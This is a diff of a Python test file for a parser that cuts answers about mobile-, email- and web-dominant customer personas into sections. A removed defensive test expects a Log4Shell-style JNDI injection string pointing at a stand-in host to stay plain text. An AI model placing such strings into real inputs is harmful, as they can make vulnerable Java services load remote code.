@@ -14,7 +14,7 @@ from persona.check.answer import NO_PATTERN, CheckedAnswer, read_answers
 from persona.check.facts import facts_of
 from persona.check.sections import cut
 from persona.errors import Invalid
-from persona.model import NextStep, Persona, Strategy, Summary
+from persona.model import NextStep, Summary
 
 DATA = Path(__file__).parent / "data"
 
@@ -34,149 +34,40 @@ def sections_of(body: str, channels: Sequence[str] = ("web", "mobile", "email"))
     return {path: text for path, text in cut(body, channels).items() if path}
 
 
-def test_the_seeds_example_gives_three_personas_with_their_sections_apart(seed_summary: Summary) -> None:
-    """Also the pattern that the summary does not show: it is what the author said."""
-    mobile, *others = read(answer("seed_answer"), seed_summary).personas
-
-    assert [(persona.pattern, persona.name) for persona in others] == [
-        ("email_dominant", "The Inbox Dweller"),
-        ("omnichannel", "The Power Orchestrator"),
-    ]
-    assert mobile == Persona(
-        pattern="mobile_dominant",
-        name="The On-The-Go Operator",
-        description="Power user who runs their business from their phone. 22 mobile sessions\n"
-        "vs. 14 web sessions per month. LTV: $890. Pro plan.",
-        why_dominant="They manage in motion — between meetings, on commutes,\nduring events. Mobile "
-        "gives them quick-check capability without context-\nswitching from other work.",
-        reach_on_weak='Desktop email with "Continue on Desktop" CTAs for\ncomplex tasks (reports, settings). '
-        "They use web for setup, mobile for\nmonitoring.",
-        journey="Discovers on web → installs mobile → daily mobile check-ins\n"
-        "→ monthly web deep-dive → upgrade decision on desktop.",
-    )
+# Recorded answers, and short ones for what only some writers do, with what they are cut into.
+RECORDED = YAML(typ="safe").load(DATA / "recorded.yaml")
+ANSWERS = YAML(typ="safe").load(DATA / "sections.yaml")
 
 
-def test_the_seeds_example_has_its_strategy(seed_summary: Summary) -> None:
-    """Adaptation is the other half of consistency; a second label of one section is kept in its text."""
-    assert read(answer("seed_answer"), seed_summary).strategy == Strategy(
-        consistency="Value proposition, core metrics, notification content\n"
-        "- **Adaptation:** Layout (mobile-optimized cards vs. desktop tables),\n  depth (email summaries → "
-        "web details), interaction (mobile gestures\n  vs. desktop keyboard shortcuts)",
-        identity_resolution="30% of profiles have only 2 identifiers. Push\nmobile app install and email "
-        "verification to resolve anonymous web\nvisitors to known profiles.",
-    )
+@pytest.mark.parametrize("name", RECORDED)
+def test_a_recorded_answer_is_cut_into_its_sections(name: str) -> None:
+    assert sections_of(answer(name)) == RECORDED[name]
+
+
+@pytest.mark.parametrize("name", ANSWERS)
+def test_an_answer_is_cut_into_its_sections(name: str) -> None:
+    assert sections_of(ANSWERS[name]["answer"]) == ANSWERS[name]["sections"]
 
 
 def test_what_the_seeds_example_lacks_is_listed(seed_summary: Summary) -> None:
-    """Only for the patterns that the summary shows."""
+    """Only for the patterns that the summary shows; what the author said of another is kept."""
+    checked = read(answer("seed_answer"), seed_summary)
     email = "reach_on_weak journey formats next_step"
     omnichannel = "why_dominant reach_on_weak formats risk next_step"
-    assert read(answer("seed_answer"), seed_summary).checks.missing_sections == [
+
+    assert checked.checks.missing_sections == [
         *(f"email_dominant/{section}" for section in email.split()),
         *(f"omnichannel/{section}" for section in omnichannel.split()),
         "strategy/switch_moments",
     ]
+    keys = "mobile_dominant", "email_dominant", "omnichannel"
+    assert tuple(persona.pattern for persona in checked.personas) == keys
 
 
 def test_a_next_step_may_be_indented_with_any_space(space_summary: Summary) -> None:
     text = "## Web Dominant\n\n### Next step\n\n\u00a0Channel: email\n\u00a0Action:\u00a0Send one mail"
     step = read(text, space_summary).personas[0].next_step
     assert step == NextStep(action="Send one mail", channel="email", measure=None)
-
-
-NAMES = ["The Desk Planner", "The On-The-Go Operator", "The Inbox Dweller", "The Power Orchestrator"]
-
-
-def test_headings_in_other_words_are_understood(space_summary: Summary) -> None:
-    """Numbers, emoji, quotes of all kinds, the name before the pattern, sections worded anew."""
-    reading = read(answer("answer_headings"), space_summary)
-    steps = [f"{pattern.key}/next_step" for pattern in space_summary.patterns]
-
-    assert ([persona.name for persona in reading.personas], reading.checks.missing_sections) == (NAMES, steps)
-
-
-SECTIONS = {
-    "words": (0, "description", "Plans at a desk and finishes what was begun elsewhere. Average LTV $413."),
-    "a bullet is none": (0, "reach_on_weak", "- **Message:** one open task\n- **Format:** a short mail"),
-    "headings within a section": (0, "formats", "#### Web\nTables.\n#### Email content\nDigest."),
-    "text in the heading": (0, "risk", "medium\nLosing the web would end it."),
-    "under Persona": (1, "description", "Runs the business from a phone. 22.3 sessions in 30 days."),
-    "steps are no points": (1, "journey", "1. Push\n2. App\n3. Web"),
-    "motivation": (2, "why_dominant", "No log-in needed."),
-}
-
-
-@pytest.mark.parametrize(("number", "section", "expected"), SECTIONS.values(), ids=SECTIONS)
-def test_sections_hold_their_own_text(
-    space_summary: Summary, number: int, section: str, expected: str
-) -> None:
-    persona = read(answer("answer_headings"), space_summary).personas[number]
-
-    assert getattr(persona, section) == expected
-
-
-def test_a_conclusion_belongs_to_no_section(space_summary: Summary) -> None:
-    framework = read(answer("answer_headings"), space_summary)
-
-    assert "every quarter" in framework.narrative
-    assert framework.strategy.switch_moments == "A push that needs a keyboard."
-
-
-def test_bold_titles_and_run_in_labels_are_understood(space_summary: Summary) -> None:
-    """A bullet that only speaks of a pattern opens none where a title does."""
-    web, email = read(answer("answer_bold"), space_summary).personas
-
-    assert (web, email) == (
-        Persona(
-            pattern="web_dominant",
-            name="The Desk Planner",
-            description="A careful buyer. They compare before they choose.",
-            why_dominant="Room for comparison.",
-            reach_on_weak="Saved carts.\n**Reach on email:** Price alerts.",
-            risk="MEDIUM. They leave when search is slow.",
-        ),
-        Persona(
-            pattern="email_dominant",
-            name="The Inbox Dweller",
-            description="Lives in the inbox. 11.6 opens a month.",
-            journey="Mail, then web.",
-            formats="| Channel | Format |\n| --- | --- |\n| Email | Digest |\n| Web | Landing page |",
-        ),
-    )
-
-
-def test_numbered_points_are_kept_whole_with_labels_and_without(space_summary: Summary) -> None:
-    """The message asks for headings: what has neither heading nor label is of no section, and not lost."""
-    mobile, email, *_ = read(answer("answer_numbered"), space_summary).personas
-
-    assert email == Persona(
-        pattern="email_dominant",
-        description='1. "The Inbox Dweller" — reads at breakfast. Clicks rarely.\n'
-        "2. Mail asks for no log-in.\n3. Deep links into the app.\n4. Mail, then web.\n"
-        "5. Digests in mail, landing pages on the web.\n"
-        "6. Poor mails would end it.",
-    )
-    # What has a label keeps what is nested below.
-    assert mobile.why_dominant == "speed.\n- **Need:** control\n- **Risk avoided:** missed orders"
-    assert mobile.risk == "push fatigue."
-
-
-def test_an_answer_in_a_fence_is_taken_out_of_it(space_summary: Summary) -> None:
-    """Keys for headings, tables as text; what follows the fence is no part of its last section."""
-    web, email = read(answer("answer_tables"), space_summary).personas
-
-    table = "| Channel | Format | Risk |\n| --- | --- | --- |\n| Web | Tables | low |"
-
-    assert web.description == "| | |\n| --- | --- |\n| People | 156 |\n| Share | 30.0 % |"
-    assert (web.formats, email.journey) == (f"{table}\n| **Email:** | Digest | - |", "Mail → web")
-
-
-def test_html_is_text_and_code_titles_nothing(space_summary: Summary) -> None:
-    """Making it harmless is the renderer's part; the reader keeps it and is not led astray."""
-    (web,) = read(answer("answer_hostile"), space_summary).personas
-
-    assert web.name == "The Desk Planner"
-    assert web.risk == "(no such figure) and ${jndi:ldap://example.invalid/a}"
 
 
 def test_an_answer_without_any_pattern_is_kept_whole(seed_summary: Summary) -> None:
@@ -186,26 +77,6 @@ def test_an_answer_without_any_pattern_is_kept_whole(seed_summary: Summary) -> N
 
     assert (framework.narrative, framework.personas, framework.warnings) == (body, [], [NO_PATTERN])
     assert len(framework.checks.missing_sections) == 2 * 8 + 3
-
-
-MARKS = {
-    "a number sign far in": "- Step one\n\n      # of visits: 3",
-    "another fence within a fence": "```text\n~~~\na b\n```",
-    "a fence that ends in its line": "```a -> b``` in a line",
-    "a heading within a fence": "```\n## Risk\n```",
-}
-
-
-@pytest.mark.parametrize("journey", MARKS.values(), ids=MARKS)
-def test_what_looks_like_a_mark_ends_no_section(space_summary: Summary, journey: str) -> None:
-    end = "### Risk\nSome.\n\n## Mobile Dominant\n### Risk\nMore."
-    web, mobile = read(f"## Web Dominant\n### Journey\n{journey}\n\n{end}", space_summary).personas
-    assert (web.journey, web.risk, mobile.risk) == (journey, "Some.", "More.")
-
-
-def test_an_answer_that_is_one_indented_quotation_is_read(space_summary: Summary) -> None:
-    quoted = "\n".join(f"  > {line}" for line in ["## Web Dominant", "### Journey", "Mail → web."])
-    assert read(quoted, space_summary).personas[0].journey == "Mail → web."
 
 
 def test_an_answer_without_any_text_is_invalid(seed_summary: Summary) -> None:
@@ -254,7 +125,6 @@ def test_a_second_answer_fills_and_overwrites_nothing(space_summary: Summary) ->
     ("title", "name"),
     [
         ("## Mobile Dominant", None),
-        ("## Mobile Dominant (N=182, 35 %)", None),
         ("## Mobile Dominant: 35% of users", None),
         ("## Mobile Dominant — “The Operator”", "The Operator"),
         ("## 1. Mobile Dominant - The Operator", "The Operator"),
@@ -262,18 +132,14 @@ def test_a_second_answer_fills_and_overwrites_nothing(space_summary: Summary) ->
         ("# **Mobile\u2011Dominant Users** (*'The Operator'*)", "The Operator"),
         ("#### mobile_dominant | The Operator", "The Operator"),
         ("## 📱 MOBILE DOMINANT \u2013 «The Operator»", "The Operator"),
-        ("## The Operator (Mobile Dominant)", "The Operator"),
         ('## Persona 1: "The Operator" — Mobile Dominant (35 %)', "The Operator"),
-        ("## Persona: The Operator (Mobile Dominant)", "The Operator"),
         ("## Title: The Operator (Mobile Dominant)", "The Operator"),
         ("## The Operator [Mobile Dominant, 35 %]", "The Operator"),
         ("## The Operator\n\n*Mobile Dominant*", "The Operator"),
         ("## 1. The Operator\n**Pattern:** Mobile Dominant", "The Operator"),
-        ("## Persona 2: The Operator\nMobile Dominant", "The Operator"),
         ("## The Operator\nPattern: Mobile Dominant (35 %)", "The Operator"),
         ("**Mobile Dominant \u2013 The Operator**", "The Operator"),
         ('**Mobile Dominant** — "The Operator"', "The Operator"),
-        ("**2. Mobile Dominant: The Operator**", "The Operator"),
         ('- **Mobile Dominant — "The Operator"**', "The Operator"),
         ("## Mobile Dominant\n### The Operator", "The Operator"),
         ("## Mobile Dominant\n\n### Persona: The Operator", "The Operator"),
@@ -299,12 +165,8 @@ def test_patterns_and_names_are_found_however_they_are_titled(
 @pytest.mark.parametrize(
     ("title", "section"),
     [
-        ("### Description", "description"),
-        ("**Who they are:**", "description"),
-        ("### Why mobile?", "why_dominant"),
         ("**Why they prefer mobile — what need it serves:**", "why_dominant"),
         ("### 2. Need served", "why_dominant"),
-        ("### Reaching them on web and email", "reach_on_weak"),
         ("- **Weak channels** \u2013 ", "reach_on_weak"),
         ("### Re-engagement on other channels", "reach_on_weak"),
         ("### 🗺️ Journey Map", "journey"),
@@ -360,14 +222,6 @@ def test_the_strategy_may_speak_of_patterns(space_summary: Summary, text: str) -
     (persona,) = read(f'## Email Dominant — "A B"\nX.\n\n{strategy}', space_summary).personas
 
     assert persona.pattern == "email_dominant"
-
-
-ANSWERS = YAML(typ="safe").load(DATA / "sections.yaml")
-
-
-@pytest.mark.parametrize("name", ANSWERS)
-def test_an_answer_is_cut_into_its_sections(name: str) -> None:
-    assert sections_of(ANSWERS[name]["answer"]) == ANSWERS[name]["sections"]
 
 
 LINES = st.sampled_from(
